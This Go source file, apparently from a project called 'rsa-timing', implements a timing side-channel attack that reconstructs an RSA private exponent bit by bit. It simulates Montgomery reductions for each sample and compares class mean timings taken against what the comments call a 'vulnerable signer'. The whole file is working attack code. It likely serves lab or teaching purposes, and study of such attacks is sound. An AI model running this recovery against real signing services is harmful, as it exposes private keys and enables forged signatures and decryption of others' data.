package attack

import (
	"context"
	"fmt"
	"time"

	"github.com/golang/glog"

	"github.com/sidechan/rsa-timing/pkg/bigint"
	"github.com/sidechan/rsa-timing/pkg/montgomery"
)

// DefaultMinClass is the per-class sample floor below which a round is
// considered undetermined.
const DefaultMinClass = 500

// RoundStats records one decision round.
type RoundStats struct {
	// Index is the bit position counted from the most significant
	// end; index 0 is the seeded top bit.
	Index int

	// Bit is the decided bit value.
	Bit uint

	// SlowCount and FastCount are the class sizes.
	SlowCount int
	FastCount int

	// SlowMean and FastMean are the class mean timings, and Gap their
	// difference.
	SlowMean time.Duration
	FastMean time.Duration
	Gap      time.Duration
}

// Result is the outcome of a recovery run.
type Result struct {
	// Bits is the recovered exponent, most significant bit first.
	Bits []uint

	// D is Bits assembled into an integer.
	D bigint.Uint

	// Rounds holds the per-round statistics, seed round included.
	Rounds []RoundStats
}

// Recoverer reconstructs a private exponent from timing samples taken
// against the vulnerable signer. Build one with New and adjust it with
// the With setters before calling Recover.
type Recoverer struct {
	mont       *montgomery.Context
	classifier Classifier
	threshold  time.Duration
	opCost     time.Duration
	maxBits    int
	minClass   int
}

// New creates a Recoverer for the public modulus n.
func New(n bigint.Uint) (*Recoverer, error) {
	ctx, err := montgomery.New(n)
	if err != nil {
		return nil, err
	}
	return &Recoverer{
		mont:       ctx,
		classifier: ReductionClassifier{},
		maxBits:    n.BitLen(),
		minClass:   DefaultMinClass,
	}, nil
}

// WithThreshold sets the mean-gap separation threshold, typically the
// signer's known per-product sleep.
func (rec *Recoverer) WithThreshold(t time.Duration) *Recoverer {
	rec.threshold = t
	return rec
}

// WithOpCost enables residual timing: the given per-operation cost
// times the simulated prefix work is subtracted from each sample
// before the means are compared. Zero disables the correction.
func (rec *Recoverer) WithOpCost(c time.Duration) *Recoverer {
	rec.opCost = c
	return rec
}

// WithMaxBits bounds the number of recovered bits. The default is the
// bit length of the modulus.
func (rec *Recoverer) WithMaxBits(n int) *Recoverer {
	rec.maxBits = n
	return rec
}

// WithMinClassSize sets the per-class sample floor.
func (rec *Recoverer) WithMinClassSize(n int) *Recoverer {
	rec.minClass = n
	return rec
}

// WithClassifier replaces the classification predicate.
func (rec *Recoverer) WithClassifier(c Classifier) *Recoverer {
	rec.classifier = c
	return rec
}

// Recover runs the bit-recovery rounds over samples.
//
// The top bit is seeded as 1: an exact-length exponent necessarily
// opens with a set bit, and the classifier carries no information at
// the initial state because MP(mbar, r mod n) never takes the slow
// path. Each following round squares the per-sample simulated state,
// partitions by the hypothesized multiply, and decides the bit by
// comparing class means against the threshold.
//
// Rounds check ctx at every bit boundary; on cancellation the partial
// result is returned together with the context error. When a class
// falls under the floor the partial result is returned with
// ErrInsufficientSamples.
func (rec *Recoverer) Recover(ctx context.Context, samples []Sample) (*Result, error) {
	if rec.threshold <= 0 {
		return nil, fmt.Errorf("attack: separation threshold must be positive")
	}
	if rec.maxBits < 1 || rec.maxBits > bigint.Bits {
		return nil, fmt.Errorf("attack: max bits %d out of range", rec.maxBits)
	}
	if len(samples) < 2*rec.minClass {
		return nil, fmt.Errorf("attack: have %d samples, need %d: %w",
			len(samples), 2*rec.minClass, ErrInsufficientSamples)
	}

	glog.V(1).Infof("recovering up to %d bits from %d samples (classifier=%s)",
		rec.maxBits, len(samples), rec.classifier.Name())

	count := len(samples)
	mbars := make([]bigint.Uint, count)
	states := make([]bigint.Uint, count)
	prefix := make([]int64, count) // simulated products + reductions so far
	squares := make([]bigint.Uint, count)
	sqFlags := make([]bool, count)

	one := rec.mont.RModN
	for i := range samples {
		m, err := samples[i].Message.Mod(rec.mont.N)
		if err != nil {
			return nil, err
		}
		mbars[i] = rec.mont.ToMont(m)
		sq, f1 := rec.mont.ProductFlag(one, one)
		st, f2 := rec.mont.ProductFlag(mbars[i], sq)
		states[i] = st
		prefix[i] = 2 + b2i(f1) + b2i(f2)
	}

	res := &Result{
		Bits:   []uint{1},
		Rounds: []RoundStats{{Index: 0, Bit: 1}},
	}
	finish := func() (*Result, error) {
		d, err := BitsToUint(res.Bits)
		if err != nil {
			return nil, err
		}
		res.D = d
		return res, nil
	}

	for round := 1; round < rec.maxBits; round++ {
		select {
		case <-ctx.Done():
			partial, err := finish()
			if err != nil {
				return nil, err
			}
			return partial, ctx.Err()
		default:
		}

		var slowSum, fastSum int64
		var slowN, fastN int
		for i := range samples {
			sq, fsq := rec.mont.ProductFlag(states[i], states[i])
			squares[i] = sq
			sqFlags[i] = fsq
			resid := int64(samples[i].Duration) - int64(rec.opCost)*prefix[i]
			if rec.classifier.Slow(rec.mont, mbars[i], sq) {
				slowN++
				slowSum += resid
			} else {
				fastN++
				fastSum += resid
			}
		}

		if slowN < rec.minClass || fastN < rec.minClass {
			partial, err := finish()
			if err != nil {
				return nil, err
			}
			return partial, fmt.Errorf("attack: round %d classes %d/%d below floor %d: %w",
				round, slowN, fastN, rec.minClass, ErrInsufficientSamples)
		}

		slowMean := time.Duration(slowSum / int64(slowN))
		fastMean := time.Duration(fastSum / int64(fastN))
		gap := slowMean - fastMean
		var bit uint
		if gap > rec.threshold {
			bit = 1
		}
		res.Bits = append(res.Bits, bit)
		res.Rounds = append(res.Rounds, RoundStats{
			Index:     round,
			Bit:       bit,
			SlowCount: slowN,
			FastCount: fastN,
			SlowMean:  slowMean,
			FastMean:  fastMean,
			Gap:       gap,
		})
		glog.V(1).Infof("round %d: bit=%d slow=%d fast=%d gap=%s", round, bit, slowN, fastN, gap)

		for i := range samples {
			st := squares[i]
			prefix[i] += 1 + b2i(sqFlags[i])
			if bit == 1 {
				var f bool
				st, f = rec.mont.ProductFlag(mbars[i], st)
				prefix[i] += 1 + b2i(f)
			}
			states[i] = st
		}
	}
	return finish()
}

func b2i(b bool) int64 {
	if b {
		return 1
	}
	return 0
}
